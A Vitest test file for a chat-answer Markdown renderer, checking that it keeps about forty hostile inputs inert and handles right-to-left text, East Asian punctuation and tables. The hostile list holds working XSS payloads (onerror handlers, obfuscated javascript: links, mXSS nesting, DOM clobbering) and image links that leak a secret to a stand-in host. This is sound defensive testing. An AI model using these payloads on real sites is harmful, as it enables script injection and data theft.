// @vitest-environment happy-dom
import { render } from '@testing-library/react';
import i18next from 'i18next';
import type { ReactNode } from 'react';
import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import words from '../../i18n/en/conversation.ts';
import { WordsProvider } from '../../i18n/WordsProvider.tsx';
import { Markdown } from './Markdown.tsx';

const i18n = i18next.createInstance();
beforeAll(() => i18n.init({ lng: 'en', resources: { en: { conversation: words } } }));

const wrapper = ({ children }: { children: ReactNode }) => <WordsProvider words={i18n}>{children}</WordsProvider>;

let fetched: ReturnType<typeof vi.fn>;
beforeEach(() => {
  fetched = vi.fn(() => Promise.reject(new Error('no request may leave')));
  vi.stubGlobal('fetch', fetched);
  vi.stubGlobal('alert', () => {
    throw new Error('a script ran');
  });
});

function draw(text: string, isGrowing = false): HTMLElement {
  return render(<Markdown text={text} isGrowing={isGrowing} />, { wrapper }).container;
}

const active =
  'script, img, iframe, svg:not([aria-hidden]), math, style, form, base, object, embed, link, meta, video, audio';

function expectInert(container: HTMLElement) {
  expect(container.querySelectorAll(active)).toHaveLength(0);
  for (const element of container.querySelectorAll('*')) {
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src$|^srcdoc$|^formaction$|^id$|^name$/i);
  }
  for (const link of container.querySelectorAll('a')) {
    expect(link.getAttribute('href')).toMatch(/^(?:https?:|mailto:)/);
    expect(link.rel).toContain('noopener');
    expect(link.target).toBe('_blank');
  }
  expect(fetched).not.toHaveBeenCalled();
}

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>body{background:url(https://canary.test)}</style>',
  '<form action="https://canary.test"><input name="attributes"></form>',
  '<base href="https://canary.test/">',
  '<a href="javascript:alert(1)">x</a>',
  'text <b onmouseover=alert(1)>bold</b>',
  '<div id="root" name="body">clobber</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//canary.test)',
  '[x](/dashboard)',
  '[x](https://user:pass@canary.test)',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![](https://canary.test/?q=SECRET)',
  '![alt](https://canary.test/?q=SECRET "title")',
  '![x](javascript:alert(1))',
  '[![x](https://canary.test/a)](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | ![](https://canary.test) |',
  '- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))',
  '> <svg onload=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '# <script>alert(1)</script>',
  'https://canary.test/"onmouseover="alert(1)',
  '<!--><img src=x onerror=alert(1)>-->',
];

describe('X01, X02, X04: nothing of an answer becomes active', () => {
  it.each(hostile)('%s', (text) => {
    expectInert(draw(text));
  });

  it('at no moment while it arrives letter by letter', () => {
    for (const text of hostile) {
      const view = render(<Markdown text="" isGrowing />, { wrapper });
      for (let end = 1; end <= text.length; end++) {
        view.rerender(<Markdown text={text.slice(0, end)} isGrowing />);
        expectInert(view.container);
      }
      view.unmount();
    }
  });
});

describe('what an answer looks like', () => {
  it('shows HTML as the text it is', () => {
    expect(draw('<b>not bold</b>').textContent).toContain('<b>not bold</b>');
  });

  it('shows a picture as a link that is followed only by a press', () => {
    const link = draw('![A cat](https://example.com/cat.png)').querySelector('a');
    expect(link?.textContent).toBe('A cat');
    expect(link?.href).toBe('https://example.com/cat.png');
  });

  it('gives each block its own direction, and code always left to right', () => {
    const container = draw(
      'Hello\n\nمرحبا `code()`\n\n- عنصر\n\n```js\nconst a = 1\n```\n\n| أ | b |\n|---|---|\n| 1 | 2 |',
    );
    const directions = [...container.querySelectorAll('p, ul, figure, th, td')].map((block) =>
      block.getAttribute('dir'),
    );
    expect(directions).toEqual(['ltr', 'rtl', 'rtl', 'rtl', 'rtl', 'ltr', null, null]);
    expect(container.querySelector('p code')?.getAttribute('dir')).toBe('ltr');
    expect(container.querySelector('pre')?.closest('[dir]')?.getAttribute('dir')).toBe('ltr');
  });

  it('draws headings below the page’s own, tasks, breaks and decoded entities', () => {
    const container = draw(
      '# Title\n\n- [x] done\n- [ ] open\n\na &amp; b &#8594; c &unknown; d\n\n| a<br>b |\n|---|\n| x |',
    );
    expect(container.querySelector('h3')?.textContent).toBe('Title');
    expect([...container.querySelectorAll<HTMLInputElement>('input')].map(({ checked }) => checked)).toEqual([
      true,
      false,
    ]);
    expect(container.textContent).toContain('a & b → c &unknown; d');
    expect(container.querySelector('th br')).not.toBeNull();
  });

  it('keeps the element of a finished block while the next ones arrive', () => {
    const view = render(<Markdown text={'```ts\nconst a = 1;\n```\n\nNe'} isGrowing />, { wrapper });
    const code = view.container.querySelector('pre');
    view.rerender(<Markdown text={'```ts\nconst a = 1;\n```\n\nNext **bold'} isGrowing />);
    view.rerender(<Markdown text={'```ts\nconst a = 1;\n```\n\nNext **bold** end'} />);
    expect(view.container.querySelector('pre')).toBe(code);
    expect(view.container.querySelector('strong')?.textContent).toBe('bold');
  });

  it('numbers a list from where it starts', () => {
    expect(draw('3. three\n4. four').querySelector('ol')?.start).toBe(3);
  });
});

it('a column of a right-to-left table has one edge, whatever direction its cells have', () => {
  const container = draw('| الاسم | Price |\n|---|--:|\n| سارة | 12 |\n| Adam | ١٢ |');
  const edges = (column: number) =>
    [...container.querySelectorAll<HTMLElement>(`tr > :nth-child(${column})`)].map(({ style }) => style.textAlign);
  expect(edges(1)).toEqual(['right', 'right', 'right']);
  expect(edges(2)).toEqual(['left', 'left', 'left']);
});

describe('answers as people write them', () => {
  const drawn = (text: string) => draw(text).innerHTML.replaceAll(/ (?:class|dir|rel|target|title)="[^"]*"/g, '');

  it.each([
    ['PATH=$PATH:$HOME/bin', 'PATH=$PATH:$HOME/bin'],
    ['US$5/US$6 and A$/NZ$ rate', 'US$5/US$6 and A$/NZ$ rate'],
  ])('takes signs of currencies and shells for no formula: %s', (text, shown) => {
    expect(draw(text).textContent).toBe(shown);
  });

  it('draws raised and lowered signs and keys, and shows a tag that is not closed', () => {
    expect(drawn('H<sub>2</sub>O, x<sup>**2**</sup>, <kbd>Ctrl</kbd>')).toContain(
      'H<sub>2</sub>O, x<sup><strong>2</strong></sup>, <kbd>Ctrl</kbd>',
    );
    expect(draw('a <sub>b, <b>c</b> and </sup>').textContent).toBe('a <sub>b, <b>c</b> and </sup>');
  });

  it('finds strong text beside East Asian punctuation', () => {
    expect(drawn('**重要提示（Important Notice）：**请注意。')).toContain(
      '<strong>重要提示（Important Notice）：</strong>请注意。',
    );
    expect(drawn('含**「重点」**内容，**不变。**源码')).toContain(
      '含<strong>「重点」</strong>内容，<strong>不变。</strong>源码',
    );
    expect(drawn('**a** and 2 ** 3 and 4 ** 5')).toContain('<strong>a</strong> and 2 ** 3 and 4 ** 5');
  });

  it('ends an address before East Asian punctuation, and strikes nothing out by one tilde', () => {
    const links = draw('见 https://example.com/docs（中文）或 https://example.com/guide，详见。').querySelectorAll('a');
    expect([...links].map(({ href }) => href)).toEqual(['https://example.com/docs', 'https://example.com/guide']);
    expect(drawn('约~5万，到~6万；~~gone~~')).toContain('约~5万，到~6万；<del>gone</del>');
  });
});
